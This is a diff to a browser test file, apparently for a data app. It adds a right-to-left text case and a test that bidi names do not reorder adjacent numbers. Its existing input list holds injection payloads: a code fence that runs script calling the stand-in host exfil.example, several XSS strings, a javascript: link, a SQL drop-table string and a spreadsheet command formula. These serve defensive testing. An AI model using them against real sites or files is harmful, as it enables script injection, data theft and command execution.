@@ -19,10 +19,12 @@ let visitor: Visitor;
 
 /** Ends the block of HTML by carriage returns, and begins one that Framework would run. */
 const FENCE = "x\r\r```js\rwindow.ATTACKED = 1; fetch(`https://exfil.example/`)\r```\r\rx";
+/** A name from right to left that ends with a number: what follows it would join it. */
+const RIGHT_TO_LEFT = "אבג 12";
 const TEXTS = [
   FENCE, FENCE.replaceAll("\r", "\n"), "<script>window.ATTACKED = 1</script>", "<img src=x onerror=\"window.ATTACKED = 1\">", "\"><svg onload='window.ATTACKED = 1'>",
   "${window.ATTACKED = 1}", "</code></pre><script>window.ATTACKED = 1</script>", "---\ntitle: x\n---", "# Head\n\n[x](javascript:window.ATTACKED=1)", "'; drop table x; --", "=cmd|'/C calc'!A0",
-  "constructor", "__proto__",
+  "constructor", "__proto__", RIGHT_TO_LEFT,
 ];
 
 beforeAll(async () => {
@@ -77,5 +79,29 @@ test("the texts are shown as they stand", async () => {
   const { page } = await visitor.open("composition");
   const shown = await page.locator("main").innerText();
   for (const text of TEXTS.slice(2, 7)) expect(shown).toContain(text);
+  await page.context().close();
+});
+
+test.each(["composition", "rfm", "customers", "zh/composition"])("on %s a name from right to left turns nothing beside it", async (path) => {
+  const { page } = await visitor.open(path);
+  const { places, turned } = await page.evaluate((name) => {
+    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT, (text) => (text.textContent!.includes(name) ? NodeFilter.FILTER_ACCEPT : NodeFilter.FILTER_SKIP));
+    const places: HTMLElement[] = [];
+    while (texts.nextNode()) places.push(texts.currentNode.parentElement!);
+    const shown = places.filter((place) => place.checkVisibility() && getComputedStyle(place).display === "inline");
+    const turned = shown.filter((place) => {
+      const number = document.createTextNode(" 34");
+      place.parentElement!.style.whiteSpace = "nowrap";
+      place.after(number);
+      const range = document.createRange();
+      range.selectNode(number);
+      const isLeft = range.getBoundingClientRect().left < place.getBoundingClientRect().right - 1;
+      number.remove();
+      return isLeft;
+    });
+    return { places: shown.length, turned: turned.map((place) => place.outerHTML) };
+  }, RIGHT_TO_LEFT);
+  expect(places).toBeGreaterThan(0);
+  expect(turned).toEqual([]);
   await page.context().close();
 });
